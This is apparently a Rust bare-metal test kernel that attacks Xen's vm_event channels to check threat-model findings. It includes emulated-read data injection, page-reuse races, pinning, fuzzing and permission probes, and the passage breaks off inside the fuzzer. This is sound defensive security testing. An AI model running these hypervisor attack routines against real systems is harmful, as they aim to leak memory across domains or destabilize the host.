//! The attack kernel (issue 12): a test, not part of the product. Labelled
//! `vmi_stub_t`, it is a hostile consumer of its victim's vm_event channels
//! and attacks Xen through them, one finding of docs/threat-model.md per
//! `attack=`; labelled `vmi_target_t` (`role=victim`), it is the victim and
//! reports what the attack did to it. Every line starts with `attack NAME:`
//! or `victim:`; the nested test (tests/tests/attacks.rs) reads them and
//! Xen's console.
//!
//! Command line:
//! - `role=victim probes=N idle_ms=I busy=0|1 lstar=0|1 seconds=S`: vCPU 0
//!   runs N probes of the emulator (a monitored `wrmsr` followed by a `rep
//!   movsb` of 1 KiB, see [`probe`]) and reports the bytes that arrived;
//!   with `lstar=1` it writes LSTAR every 10 ms and reports writes that did
//!   not read back (see [`lstar_writes`]); then,
//!   with `busy=1`, every vCPU idles until I ms after boot and exits to Xen
//!   in a loop (CPUID, MSR writes) until S seconds after boot; without, it
//!   idles until then. Then it powers off. (Only the attacks that need a
//!   busy victim ask for one.)
//! - `role=attacker attack=NAME target=DOMID rounds=N delay_ms=D` (waits D
//!   ms before the attack), NAME one of
//!   `emul-read` (finding 3), `enable-fail` (2), `pin` (5 and 7: pages kept
//!   past DISABLE, scrubbing), `gfns` (4), `flask` (6: every operation a
//!   stub uses, on its paired target and on each of `others=D1,D2,..`, one
//!   `attack flask: domain D (...): op=result ...` line each, then the
//!   rights a stub must not have, see [`try_ops`]), `fuzz` (randomized
//!   hostile rounds: garbage answers, states, storms, cycles), `deferred`
//!   (7d: dies while an LSTAR write waits for its answer), `dying` (7c:
//!   ENABLE_CHANNELS and GET_PORTS on the victim once the host has
//!   destroyed it), `race` (1 and the racing ENABLE/DISABLE/map:
//!   needs 2 vCPUs; vCPU 1 cycles the channels and at once takes pages for
//!   itself, vCPU 0 maps the channel frames over and over).
//! - a victim given `hit=DOMID` runs the same operations on that domain
//!   (`victim: flask: domain D: ...`) before its busy loop.
#![no_std]
#![no_main]

extern crate alloc;

use alloc::vec;
use alloc::vec::Vec;
use core::arch::asm;
use core::sync::atomic::{AtomicBool, AtomicU64, Ordering};

use boot::cmdline::{Cmdline, CmdlineError};
use boot::xen::{XenError, DOMID_SELF, XENMEM_RESOURCE_GRANT_TABLE};
use boot::{println, smp, time, BootInfo};
use vmevent::abi::domctl::{
    XenDomctlMonitorOp, XenVmEventOpChannels, XEN_DOMINF_DYING, XEN_DOMINF_SHUTDOWN,
};
use vmevent::abi::{
    VmEventFlags, VM_EVENT_INTERFACE_VERSION, VM_EVENT_REASON_DESCRIPTOR_ACCESS,
    VM_EVENT_REASON_MOV_TO_MSR, VM_EVENT_SLOT_FINISH, VM_EVENT_SLOT_SUBMIT,
};
use vmevent::shm::{AsyncRingPtr, SlotArea, SlotMem};
use xenctl::probe;

boot::entry!(main);

const KNOWN: &[&str] = &[
    "role", "probes", "seconds", "idle_ms", "busy", "attack", "target", "rounds", "delay_ms",
    "others", "hit", "cycles", "lstar",
];

/// `MSR_IA32_MC0_CTL`: Xen's vMCE ignores what a guest writes there, and its
/// index (0x400) is what `rcx` holds after the `wrmsr`: the `rep movsb`
/// right behind it copies 1 KiB.
const PROBE_MSR: u32 = 0x400;
const PROBE_LEN: usize = PROBE_MSR as usize;
/// The victim's source bytes, and what the attacker offers as read data.
const OWN: u8 = 0x5a;
const OFFERED: u8 = 0xa5;

fn main(info: &'static BootInfo<'static>) {
    let c = match Cmdline::from_bytes(info.cmdline) {
        Ok(c) => c,
        Err(e) => boot::config_error(format_args!("attack: bad command line: {e}")),
    };
    if let Err(e) = dispatch(&c) {
        boot::config_error(format_args!("attack: bad command line: {e}"));
    }
    boot::poweroff();
}

fn dispatch(c: &Cmdline<'static>) -> Result<(), CmdlineError<'static>> {
    c.validate(KNOWN)?;
    match c.choice("role", "attacker", &["attacker", "victim"])? {
        "victim" => {
            if let Some(hit) = c.get("hit") {
                let d = boot::cmdline::parse_number(hit).unwrap_or(DOMID_SELF.into()) as u16;
                println!("victim: flask: domain {d}: {}", try_ops(d));
            }
            victim(
                c.number("probes", 0, 0, 1000)?,
                c.number("idle_ms", 0, 0, 600_000)?,
                c.flag("busy")?,
                c.flag("lstar")?,
                c.number("seconds", 10, 1, 600)?,
            );
            Ok(())
        }
        _ => {
            let attack = c.choice(
                "attack",
                "emul-read",
                &[
                    "emul-read",
                    "enable-fail",
                    "pin",
                    "gfns",
                    "flask",
                    "fuzz",
                    "deferred",
                    "dying",
                    "race",
                ],
            )?;
            let t = c.number("target", 0, 1, 0x7fef)? as u16;
            let rounds = c.number("rounds", 10, 1, 1_000_000)?;
            let delay_ms = c.number("delay_ms", 0, 0, 600_000)?;
            println!("attack {attack}: against domain {t}, {rounds} round(s)");
            time::sleep_ns(delay_ms * 1_000_000);
            let r = match attack {
                "emul-read" => emul_read(t, rounds),
                "enable-fail" => enable_fail(t, rounds),
                "pin" => pin(t, rounds),
                "fuzz" => fuzz(t, rounds, c.number("cycles", 0, 0, 100)?),
                "deferred" => deferred(t),
                "dying" => dying(t),
                "race" => race(t, rounds),
                "flask" => {
                    flask(t, c.get("others").unwrap_or(""));
                    Ok(())
                }
                _ => gfns(t, rounds),
            };
            match r {
                Ok(()) => println!("attack {attack}: done"),
                Err(e) => println!("attack {attack}: stopped: {e}"),
            }
            Ok(())
        }
    }
}

// ---------------------------------------------------------------- victim

static EXITS: AtomicU64 = AtomicU64::new(0);

fn victim(probes: u64, idle_ms: u64, busy_loop: bool, lstar: bool, seconds: u64) {
    println!("victim: up, {} vCPU(s)", smp::nr_vcpus());
    let busy = boot::boot_time_ns() + idle_ms * 1_000_000;
    let until = boot::boot_time_ns() + seconds * 1_000_000_000;
    let r = smp::start_all(|id| {
        if id == 0 && probes > 0 {
            run_probes(probes);
        }
        if id == 0 && lstar {
            lstar_writes(until);
        }
        if !busy_loop {
            time::sleep_until(until);
            return;
        }
        time::sleep_until(busy);
        let mut n = 0u64;
        while time::now_ns() < until {
            // CPUID always exits to Xen, which runs hvm_do_resume() (and
            // reads v->arch.vm_event) on the way back; so does a write to
            // MC0_CTL (ignored by Xen's vMCE), every 8th time.
            core::hint::black_box(core::arch::x86_64::__cpuid(0));
            if n % 8 == 7 {
                write_mc0_ctl();
            }
            n += 1;
        }
        EXITS.fetch_add(n, Ordering::Relaxed);
    });
    if let Err((id, e)) = r {
        println!("victim: vCPU {id} did not start: {e}");
    }
    println!("victim: done, {} exits", EXITS.load(Ordering::Relaxed));
}

/// Counts of what one probe's destination received.
#[derive(Default, Clone, Copy)]
struct Bytes {
    own: u64,
    offered: u64,
    zero: u64,
    foreign: u64,
}

fn run_probes(probes: u64) {
    let src = boot::alloc_ram_frames(2).expect("victim: two free frames") as *mut u8;
    // SAFETY: both frames are ours (just allocated, identity mapped).
    let dst = unsafe { src.add(4096) };
    let mut total = Bytes::default();
    let mut sample: Option<[u8; 32]> = None;
    for _ in 0..probes {
        // SAFETY: src and dst are two whole frames of ours.
        unsafe {
            core::ptr::write_bytes(src, OWN, 4096);
            core::ptr::write_bytes(dst, 0, 4096);
        }
        probe(src, dst);
        for i in 0..PROBE_LEN {
            // SAFETY: i < 4096, within dst.
            let b = unsafe { dst.add(i).read_volatile() };
            match b {
                OWN => total.own += 1,
                OFFERED => total.offered += 1,
                0 => total.zero += 1,
                _ => {
                    total.foreign += 1;
                    if sample.is_none() {
                        let mut s = [0u8; 32];
                        let from = i.min(PROBE_LEN - 32);
                        // SAFETY: from + 32 <= PROBE_LEN <= 4096.
                        unsafe {
                            core::ptr::copy_nonoverlapping(dst.add(from), s.as_mut_ptr(), 32)
                        };
                        sample = Some(s);
                    }
                }
            }
        }
        time::sleep_ns(5_000_000);
    }
    println!(
        "victim: {probes} probe(s) of {PROBE_LEN} bytes: own {} offered {} zero {} foreign {}",
        total.own, total.offered, total.zero, total.foreign
    );
    if let Some(s) = sample {
        println!("victim: foreign bytes, first 32 at the first one: {s:02x?}");
    }
}

/// `MSR_LSTAR`: this kernel makes no system calls, so it may write there
/// what it likes, and the value reads back.
const MSR_LSTAR: u32 = 0xc000_0082;

fn rdmsr(msr: u32) -> u64 {
    let (lo, hi): (u32, u32);
    // SAFETY: reading LSTAR has no side effect.
    unsafe {
        asm!("rdmsr", in("ecx") msr, out("eax") lo, out("edx") hi, options(nostack, nomem));
    }
    u64::from(hi) << 32 | u64::from(lo)
}

fn wrmsr(msr: u32, v: u64) {
    // SAFETY: only used on LSTAR, which this kernel never uses (see above).
    unsafe {
        asm!("wrmsr", in("ecx") msr, in("eax") v as u32, in("edx") (v >> 32) as u32,
             options(nostack, nomem));
    }
}

/// Finding 7d's victim: a new value into LSTAR every 10 ms until `until`,
/// each read back. A write the monitor held and its consumer never
/// answered must still have happened (it was not refused): "lost" counts
/// the writes that read back as the previous value.
fn lstar_writes(until: u64) {
    let (mut writes, mut lost) = (0u64, 0u64);
    while time::now_ns() < until {
        let v = 0xffff_8000_0000_0000 | (writes + 1) << 12;
        wrmsr(MSR_LSTAR, v);
        let back = rdmsr(MSR_LSTAR);
        if back != v {
            lost += 1;
            println!(
                "victim: lstar write {} lost: wrote {v:#x}, read {back:#x}",
                writes + 1
            );
        }
        writes += 1;
        time::sleep_ns(10_000_000);
    }
    println!("victim: lstar: {writes} write(s), {lost} lost");
}

fn write_mc0_ctl() {
    // SAFETY: Xen's vMCE ignores writes to MC0_CTL.
    unsafe {
        asm!("wrmsr", in("ecx") PROBE_MSR, in("eax") 0u32, in("edx") 0u32, options(nostack, nomem));
    }
}

/// `wrmsr` to [`PROBE_MSR`] (monitored by the attacker, so the vCPU stops
/// right after it) immediately followed by `rep movsb` of `rcx` = 0x400
/// bytes from `src` to `dst`. An answer that makes Xen emulate the `rep
/// movsb` with the consumer's read data decides what lands in `dst`.
fn probe(src: *const u8, dst: *mut u8) {
    // SAFETY: writes to MC0_CTL are ignored by Xen's vMCE; the copy moves
    // PROBE_LEN bytes between our own two frames (rsi, rdi), direction
    // flag clear per the ABI.
    unsafe {
        asm!(
            "wrmsr",
            "rep movsb",
            inout("ecx") PROBE_MSR => _,
            in("eax") 0u32,
            in("edx") 0u32,
            inout("rsi") src => _,
            inout("rdi") dst => _,
            options(nostack),
        );
    }
}

// -------------------------------------------------------------- attacker

/// Enabled and mapped channels of the victim.
struct Channels {
    ch: XenVmEventOpChannels,
    gfns: Vec<u64>,
}

impl Channels {
    fn open(t: u16, ring_frames: u32) -> Result<Self, XenError> {
        let ch = xenctl::enable_channels(t, ring_frames)?;
        let frames = u64::from(ring_frames + ch.slot_frames);
        let base = boot::alloc_gfns(frames).expect("free guest frames");
        let mut gfns: Vec<u64> = (base..base + frames).collect();
        if let Err(e) = xenctl::acquire_channels(t, &mut gfns) {
            let _ = xenctl::disable_channels(t);
            return Err(e);
        }
        Ok(Self { ch, gfns })
    }

    fn va(&self) -> *mut u8 {
        (self.gfns[0] << 12) as *mut u8
    }

    fn slots(&self, ring_frames: u32) -> SlotArea {
        // SAFETY: the slot frames follow the ring frames in our mapping,
        // which stays until `unmap`.
        unsafe { SlotArea::new(self.va().add(ring_frames as usize * 4096), self.ch.nr_vcpus) }
    }

    /// Nonzero bytes in all our mapped frames.
    fn nonzero_bytes(&self) -> usize {
        let len = self.gfns.len() * 4096;
        // SAFETY: len bytes from va are our mapping.
        (0..len)
            .filter(|&i| unsafe { self.va().add(i).read_volatile() } != 0)
            .count()
    }

    fn unmap(&mut self) {
        for g in self.gfns.drain(..) {
            if let Err(e) = xenctl::remove_from_physmap(g) {
                println!("attack: removing the mapping at gfn {g:#x}: {e}");
            }
        }
    }
}

/// Finding 3: answer every MSR write with EMULATE + SET_EMUL_READ_DATA of
/// 4096 bytes under another reason (DESCRIPTOR_ACCESS honours EMULATE), and
/// DENY (so the write is dropped when Xen binds the real reason).
fn emul_read(t: u16, rounds: u64) -> Result<(), XenError> {
    xenctl::pause(t)?;
    let mut c = Channels::open(t, 1)?;
    xenctl::monitor(t, XenDomctlMonitorOp::mov_to_msr(PROBE_MSR, true))?;
    xenctl::unpause(t)?;
    println!("attack emul-read: armed");
    let slots = c.slots(1);
    let mut served = 0u64;
    let deadline = time::now_ns() + 120_000_000_000;
    while served < rounds && time::now_ns() < deadline {
        for i in 0..c.ch.nr_vcpus {
            let slot = slots.slot(i).expect("slot in range");
            if slot.load_state(Ordering::Acquire) != VM_EVENT_SLOT_SUBMIT {
                continue;
            }
            let req = slot.read_event();
            if req.reason != VM_EVENT_REASON_MOV_TO_MSR {
                println!("attack emul-read: unexpected reason {}", req.reason);
            }
            let mut rsp = req;
            rsp.version = VM_EVENT_INTERFACE_VERSION;
            rsp.reason = VM_EVENT_REASON_DESCRIPTOR_ACCESS;
            rsp.flags = (VmEventFlags::VCPU_PAUSED
                | VmEventFlags::EMULATE
                | VmEventFlags::SET_EMUL_READ_DATA
                | VmEventFlags::DENY)
                .bits();
            rsp.set_emul_read_data(&[OFFERED; 512]);
            rsp.set_emul_read_size(4096);
            slot.write_event(&rsp);
            slot.store_state(VM_EVENT_SLOT_FINISH, Ordering::Release);
            xenctl::resume(t)?;
            served += 1;
        }
        core::hint::spin_loop();
    }
    println!(
        "attack emul-read: answered {served} MSR write(s) with EMULATE|SET_EMUL_READ_DATA size 4096 as descriptor_access"
    );
    let _ = xenctl::monitor_off(t, XenDomctlMonitorOp::mov_to_msr(PROBE_MSR, true));
    xenctl::disable_channels(t)?;
    c.unmap();
    Ok(())
}

/// Finding 7d: monitor LSTAR writes synchronously, wait until one is held
/// for our answer, and die without answering (the kernel powers off after
/// this returns, with the channels still open and mapped).
fn deferred(t: u16) -> Result<(), XenError> {
    xenctl::pause(t)?;
    let c = Channels::open(t, 1)?;
    // Without CONTROL_REGISTERS Xen performs the write at once and only
    // tells us; with it (as the stub asks) the write waits for the answer.
    xenctl::monitor(t, XenDomctlMonitorOp::control_registers())?;
    xenctl::monitor(t, XenDomctlMonitorOp::mov_to_msr(MSR_LSTAR, true))?;
    xenctl::unpause(t)?;
    println!("attack deferred: armed");
    let slots = c.slots(1);
    let deadline = time::now_ns() + 60_000_000_000;
    while time::now_ns() < deadline {
        for i in 0..c.ch.nr_vcpus {
            let slot = slots.slot(i).expect("slot in range");
            if slot.load_state(Ordering::Acquire) != VM_EVENT_SLOT_SUBMIT {
                continue;
            }
            let req = slot.read_event();
            let msr = req.mov_to_msr();
            println!(
                "attack deferred: vCPU {i}'s write of {:#x} to MSR {:#x} is held; dying without an answer",
                msr.new_value, msr.msr
            );
            return Ok(());
        }
        core::hint::spin_loop();
    }
    println!("attack deferred: no write was held in 60 s");
    Ok(())
}

/// Finding 7c: once the host destroys the victim (`xl destroy`), it stays
/// findable, dying: `XEN_DOMCTL_set_target` holds a reference to the
/// paired domain until the stub itself dies. ENABLE_CHANNELS and GET_PORTS
/// on it must be refused (unfixed, stock `vm_event_domctl` "ignored" an op
/// on a dying domain and returned success, here with zeroed outputs).
fn dying(t: u16) -> Result<(), XenError> {
    println!("attack dying: armed");
    let deadline = time::now_ns() + 120_000_000_000;
    loop {
        let i = xenctl::getdomaininfo(t)?;
        if i.flags & XEN_DOMINF_DYING != 0 {
            break;
        }
        if time::now_ns() > deadline {
            println!("attack dying: domain {t} was not destroyed in 120 s");
            return Ok(());
        }
        time::sleep_ns(10_000_000);
    }
    let enable = match xenctl::enable_channels(t, 1) {
        Ok(ch) => alloc::format!(
            "ok (nr_vcpus {} slot_frames {} async_port {})",
            ch.nr_vcpus,
            ch.slot_frames,
            ch.async_port
        ),
        Err(e) => alloc::format!("{e}"),
    };
    let mut ports = [0u32; 8];
    let get_ports = match xenctl::get_ports(t, &mut ports) {
        Ok(async_port) => alloc::format!("ok (async_port {async_port}, ports {ports:?})"),
        Err(e) => alloc::format!("{e}"),
    };
    println!("attack dying: domain {t} is dying: enable={enable} get_ports={get_ports}");
    Ok(())
}

/// What [`race`] writes into pages of its own while it holds them.
const MARK: u64 = 0x4b52_414d_4543_4152; // "RACEMARK"
/// Pages [`race`] takes for itself after each DISABLE.
const RACE_PAGES: usize = 8;

/// Finding 1, and racing ENABLE/DISABLE against mapping from two vCPUs:
/// vCPU 1 enables the victim's channels, disables them, and at once backs
/// [`RACE_PAGES`] frames of its own with new pages, marks them, holds them
/// a moment, clears and returns them. vCPU 0 maps the channel frames over
/// and over, reads every frame it got (at once and again a little later)
/// and unmaps them. Unfixed, a channel page DISABLE freed between Xen's
/// hand-out of its frame number and the mapping could be anybody's by the
/// time it was mapped, ours among them: a marked frame in a channel
/// mapping is a page that was not the victim's.
fn race(t: u16, rounds: u64) -> Result<(), XenError> {
    static STOP: AtomicBool = AtomicBool::new(false);
    static N: [AtomicU64; 8] = [const { AtomicU64::new(0) }; 8];
    const ENABLED: usize = 0;
    const BUSY: usize = 1;
    const ENABLE_ERR: usize = 2;
    const TAKEN: usize = 3;
    const MAPPED: usize = 4;
    const REFUSED: usize = 5;
    const MARKED: usize = 6;
    const FRAMES: usize = 7;
    if smp::nr_vcpus() < 2 {
        println!("attack race: needs 2 vCPUs, has {}", smp::nr_vcpus());
        return Ok(());
    }
    static REFUSED_BY: [AtomicU64; 128] = [const { AtomicU64::new(0) }; 128];
    // The largest ring: the longer Xen's mapping loop, the wider the
    // window between hand-out and mapping of the last frames.
    const RING: u32 = vmevent::abi::domctl::XEN_VM_EVENT_MAX_RING_FRAMES;
    let ch = xenctl::enable_channels(t, RING)?;
    xenctl::disable_channels(t)?;
    let frames = u64::from(RING + ch.slot_frames);
    // Room for our pages: give as many of our own back first.
    let ram = boot::alloc_ram_frames(RACE_PAGES as u64).expect("free frames") >> 12;
    let own: Vec<u64> = (ram..ram + RACE_PAGES as u64).collect();
    if xenctl::decrease_reservation(&own)? != RACE_PAGES as u64 {
        println!("attack race: could not make room for {RACE_PAGES} pages");
        return Ok(());
    }
    let ours = boot::alloc_gfns(RACE_PAGES as u64).expect("free guest frames");
    let ours: Vec<u64> = (ours..ours + RACE_PAGES as u64).collect();
    let at = boot::alloc_gfns(frames).expect("free guest frames");
    let at: Vec<u64> = (at..at + frames).collect();
    let count = |i: usize| N[i].fetch_add(1, Ordering::Relaxed);
    let last_err = AtomicU64::new(0);
    println!("attack race: {rounds} cycles against mappings of {frames} frame(s)");
    let r = smp::start_all(|id| match id {
        1 => {
            let t0 = time::now_ns();
            for r in 0..rounds {
                if r % 2000 == 0 {
                    println!(
                        "attack race: cycle {r} at {} ms, {} mapping(s) made",
                        (time::now_ns() - t0) / 1_000_000,
                        N[MAPPED].load(Ordering::Relaxed)
                    );
                }
                match xenctl::enable_channels(t, RING) {
                    Ok(_) => count(ENABLED),
                    Err(XenError::EBUSY) => count(BUSY),
                    Err(e) => {
                        last_err.store(e.0 as u64, Ordering::Relaxed);
                        count(ENABLE_ERR)
                    }
                };
                // Live for 0-63 µs, so that vCPU 0's mappings meet the
                // DISABLE at every point of their way.
                spin_ns((r % 64) * 1000);
                let _ = xenctl::disable_channels(t);
                if xenctl::populate_physmap(&ours) != Ok(RACE_PAGES as u64) {
                    continue;
                }
                count(TAKEN);
                for g in &ours {
                    // SAFETY: Xen just backed this frame of ours with a
                    // page (identity mapped); we clear it before we give
                    // it back.
                    unsafe { ((g << 12) as *mut u64).write_volatile(MARK) };
                }
                // A spin, not a sleep: the hold must be short and sure.
                spin_ns(50_000);
                for g in &ours {
                    // SAFETY: as above, still ours.
                    unsafe { ((g << 12) as *mut u64).write_volatile(0) };
                }
                let _ = xenctl::decrease_reservation(&ours);
            }
            STOP.store(true, Ordering::Release);
        }
        0 => {
            let mut gfns = at.clone();
            while !STOP.load(Ordering::Acquire) {
                gfns.copy_from_slice(&at);
                let got = xenctl::acquire_channels(t, &mut gfns);
                if let Err(e) = got {
                    REFUSED_BY[(e.0 as usize).min(127)].fetch_add(1, Ordering::Relaxed);
                }
                if got.is_ok() {
                    count(MAPPED);
                    for g in &at {
                        count(FRAMES);
                        // SAFETY: just mapped there (a channel frame, or
                        // whatever Xen put there); read only.
                        if unsafe { ((g << 12) as *const u64).read_volatile() } == MARK {
                            count(MARKED);
                        }
                    }
                } else {
                    count(REFUSED);
                }
                // Also after a failure: Xen may have mapped the first few.
                for g in &at {
                    let _ = xenctl::remove_from_physmap(*g);
                }
            }
        }
        _ => {}
    });
    if let Err((id, e)) = r {
        println!("attack race: vCPU {id} did not start: {e}");
    }
    let n = |i: usize| N[i].load(Ordering::Relaxed);
    let mut why = alloc::string::String::new();
    for (e, c) in REFUSED_BY.iter().enumerate() {
        let c = c.load(Ordering::Relaxed);
        if c > 0 {
            why.push_str(&alloc::format!(" {}:{c}", XenError(e as i32).name()));
        }
    }
    println!("attack race: mappings refused by error:{why}");
    println!(
        "attack race: {rounds} cycles: enabled {} busy {} other errors {} (last {}), pages taken {} times; \
         mappings: made {} refused {}; frames read {}, marked {}",
        n(ENABLED),
        n(BUSY),
        n(ENABLE_ERR),
        XenError(last_err.load(Ordering::Relaxed) as i32),
        n(TAKEN),
        n(MAPPED),
        n(REFUSED),
        n(FRAMES),
        n(MARKED)
    );
    let _ = xenctl::disable_channels(t);
    Ok(())
}

/// Spins for `ns` (a sleep would hand the timing to the timer).
fn spin_ns(ns: u64) {
    let until = time::now_ns() + ns;
    while time::now_ns() < until {
        core::hint::spin_loop();
    }
}

/// Finding 2: fill the victim's event channel table with ports of ours, then
/// make ENABLE_CHANNELS fail after it set up the per-vCPU state, again and
/// again, while the victim's vCPUs keep exiting to Xen.
fn enable_fail(t: u16, rounds: u64) -> Result<(), XenError> {
    let mut ports = 0u32;
    let full = loop {
        match xenctl::alloc_unbound_in(t, DOMID_SELF) {
            Ok(_) => ports += 1,
            Err(e) => break e,
        }
        if ports > 1 << 17 {
            println!("attack enable-fail: the table never filled");
            return Ok(());
        }
    };
    println!("attack enable-fail: victim's table full after {ports} port(s) of ours ({full})");
    let (mut refused, mut enabled) = (0u64, 0u64);
    let mut last = None;
    for _ in 0..rounds {
        match xenctl::enable_channels(t, 1) {
            Ok(_) => {
                enabled += 1;
                xenctl::disable_channels(t)?;
            }
            Err(e) => {
                refused += 1;
                last = Some(e);
            }
        }
    }
    match last {
        Some(e) => println!(
            "attack enable-fail: {rounds} ENABLE_CHANNELS: {refused} refused ({e}), {enabled} enabled"
        ),
        None => println!("attack enable-fail: {rounds} ENABLE_CHANNELS: all enabled"),
    }
    Ok(())
}

/// Findings 5 and 7: ENABLE, map everything, DISABLE keeping the mapping,
/// `rounds` times; then look at what the kept pages hold, let go, and
/// ENABLE once more.
fn pin(t: u16, rounds: u64) -> Result<(), XenError> {
    const RING_FRAMES: u32 = 16;
    let mut kept: Vec<Channels> = Vec::new();
    let mut refused = 0u64;
    for r in 0..rounds {
        match Channels::open(t, RING_FRAMES) {
            Ok(c) => {
                // SAFETY: the ring header is in our mapping.
                let ring = unsafe { AsyncRingPtr::new(c.va(), RING_FRAMES) };
                let live = ring.nr_entries_word().load(Ordering::Relaxed);
                xenctl::disable_channels(t)?;
                if r == 0 {
                    println!(
                        "attack pin: scrub: ring header nr_entries {live} while open, {} after DISABLE; {} nonzero byte(s) left in the {} kept page(s)",
                        ring.nr_entries_word().load(Ordering::Relaxed),
                        c.nonzero_bytes(),
                        c.gfns.len()
                    );
                }
                kept.push(c);
            }
            Err(e) => {
                refused += 1;
                if refused == 1 {
                    println!("attack pin: round {r}: ENABLE_CHANNELS refused ({e})");
                }
            }
        }
    }
    let pages: usize = kept.iter().map(|c| c.gfns.len()).sum();
    println!(
        "attack pin: {rounds} round(s): {} enabled, {refused} refused; {pages} closed-channel page(s) still mapped",
        kept.len()
    );
    for c in kept.iter_mut() {
        c.unmap();
    }
    match Channels::open(t, RING_FRAMES) {
        Ok(mut c) => {
            println!("attack pin: after unmapping, ENABLE_CHANNELS ok");
            xenctl::disable_channels(t)?;
            c.unmap();
        }
        Err(e) => println!("attack pin: after unmapping, ENABLE_CHANNELS refused ({e})"),
    }
    Ok(())
}

/// Finding 4: mappings at sparse GFNs (each a range of Xen's records), and
/// mappings that fail (GFNs beyond the address width), `rounds` each.
fn gfns(t: u16, rounds: u64) -> Result<(), XenError> {
    let mut c = Channels::open(t, 1)?;
    println!("attack gfns: start");
    time::sleep_ns(3_000_000_000);
    let base = boot::alloc_gfns(2 * rounds).expect("free guest frames");
    let mut placed = vec![];
    let mut stop = None;
    for k in 0..rounds {
        let g = base + 2 * k;
        match xenctl::acquire_channel_frames(t, 0, &mut [g]) {
            Ok(()) => placed.push(g),
            Err(e) => {
                stop = Some(e);
                break;
            }
        }
    }
    match stop {
        Some(e) => println!(
            "attack gfns: {} sparse mapping(s) placed, then refused ({e})",
            placed.len()
        ),
        None => println!("attack gfns: {} sparse mapping(s) placed", placed.len()),
    }
    let mut failed = 0u64;
    let mut last = None;
    for k in 0..rounds * 10 {
        if let Err(e) = xenctl::acquire_channel_frames(t, 0, &mut [(1 << 40) + 2 * k]) {
            failed += 1;
            last = Some(e);
        }
    }
    println!(
        "attack gfns: {} mapping(s) beyond the address width, {failed} failed{}",
        rounds * 10,
        match last {
            Some(e) => alloc::format!(" ({e})"),
            None => alloc::string::String::new(),
        }
    );
    println!("attack gfns: holding");
    time::sleep_ns(5_000_000_000);
    for g in placed {
        let _ = xenctl::remove_from_physmap(g);
    }
    xenctl::disable_channels(t)?;
    c.unmap();
    Ok(())
}

/// Finding 6: the stub's operations on its paired target (all allowed) and
/// on every other domain (all refused).
fn flask(t: u16, others: &str) {
    println!("attack flask: domain {t} (paired): {}", try_ops(t));
    for d in others.split(',').filter(|d| !d.is_empty()) {
        let d = boot::cmdline::parse_number(d).unwrap_or(DOMID_SELF.into()) as u16;
        println!("attack flask: domain {d} (other): {}", try_ops(d));
    }
}

/// Each operation a stub makes on its target, on `d`: `name=ok` or
/// `name=-ERRNO`. Undone where it succeeded. `evtchn` is a port made in
/// `d`'s table for us (on ourselves, an ordinary port of our own).
fn try_ops(d: u16) -> alloc::string::String {
    use core::fmt::Write as _;
    let mut out = alloc::string::String::new();
    let mut put = |name: &str, r: Result<(), XenError>| {
        let _ = match r {
            Ok(()) => write!(out, "{name}=ok "),
            Err(e) => write!(out, "{name}=-{} ", e.name()),
        };
    };
    put("getdomaininfo", xenctl::getdomaininfo(d).map(drop));
    let paused = xenctl::pause(d);
    let was_paused = paused.is_ok();
    put("pause", paused);
    if was_paused {
        put("unpause", xenctl::unpause(d));
    }
    put("monitor", xenctl::monitor_capabilities(d).map(drop));
    match Channels::open(d, 1) {
        Ok(mut c) => {
            put("enable+map", Ok(()));
            let mut ports = vec![0u32; c.ch.nr_vcpus as usize];
            put("get_ports", xenctl::get_ports(d, &mut ports).map(drop));
            put("disable", xenctl::disable_channels(d));
            c.unmap();
        }
        Err(e) => {
            put("enable+map", Err(e));
            put("disable", xenctl::disable_channels(d));
        }
    }
    put("evtchn", xenctl::alloc_unbound_in(d, DOMID_SELF).map(drop));
    // Reinjecting a trap: the one device-model op a stub needs (EINVAL on
    // an HVM domain: allowed, for a vCPU that does not exist).
    put("inject_event", probe::inject_event_to_no_vcpu(d));
    // Rights a stub must not have, even on its target (patch 0013 and the
    // policy); each probe changes nothing if allowed. Printed raw: the
    // test tells a denial (EACCES/EPERM) from a refusal after the check.
    put("gethvmc", probe::gethvmcontext_size(d).map(drop));
    put("dm", probe::dm_nr_vcpus(d));
    put(
        "resource_map",
        probe::resource_size(d, XENMEM_RESOURCE_GRANT_TABLE, 0).map(drop),
    );
    put("set_access_required", probe::clear_access_required(d));
    out.trim_end().into()
}

/// xorshift64*: the fuzzer's randomness (seeded from the TSC, printed).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

/// The fuzzer's monitors: CPUID and writes to MC0_CTL (what the victim does).
fn fuzz_monitors(t: u16, on: bool) -> Result<(), XenError> {
    use vmevent::abi::domctl::XEN_DOMCTL_MONITOR_EVENT_CPUID;
    let cpuid = XenDomctlMonitorOp::simple(XEN_DOMCTL_MONITOR_EVENT_CPUID, true);
    let msr = XenDomctlMonitorOp::mov_to_msr(PROBE_MSR, true);
    // A monitor Xen still has on from before answers EEXIST: fine here.
    let on_ok = |r: Result<(), XenError>| match r {
        Err(e) if e == XenError::EEXIST => Ok(()),
        r => r,
    };
    if on {
        on_ok(xenctl::monitor(t, cpuid))?;
        on_ok(xenctl::monitor(t, msr))
    } else {
        let _ = xenctl::monitor_off(t, cpuid);
        xenctl::monitor_off(t, msr)
    }
}

/// Randomized hostile rounds against a running victim: answers with random
/// flags (EMULATE and its read and instruction data, SET_REGISTERS, DENY,
/// singlestep, altp2m, vmtrace, fork resets), random reasons, vCPU ids,
/// versions and data; random slot states (also on slots with nothing
/// pending); RESUME storms; a hostile async ring `cons`; with `cycles=N`,
/// up to N rounds of DISABLE and ENABLE again (each pauses the victim). The
/// victim's registers are only ever set to its own (an
/// honest stub may rewrite them; this one is out to hurt Xen, not it).
fn fuzz(t: u16, rounds: u64, max_cycles: u64) -> Result<(), XenError> {
    let seed = boot::time::now_ns() | 1;
    let mut rng = Rng(seed);
    println!("attack fuzz: seed {seed:#x}");
    // Our ends of the slots' ports, so answers can also come the way a
    // stub sends them (a notification, which is what turns Xen's bounded
    // wait, patch 0015, on: the garbage then meets a vCPU that waits).
    let bind = |t: u16, c: &Channels| -> Result<Vec<boot::xen::Port>, XenError> {
        let mut remote = vec![0u32; c.ch.nr_vcpus as usize];
        xenctl::get_ports(t, &mut remote)?;
        remote
            .iter()
            .map(|&p| boot::evtchn::bind_interdomain(t, p))
            .collect()
    };
    let open = |t: u16| -> Result<(Channels, Vec<boot::xen::Port>), XenError> {
        xenctl::pause(t)?;
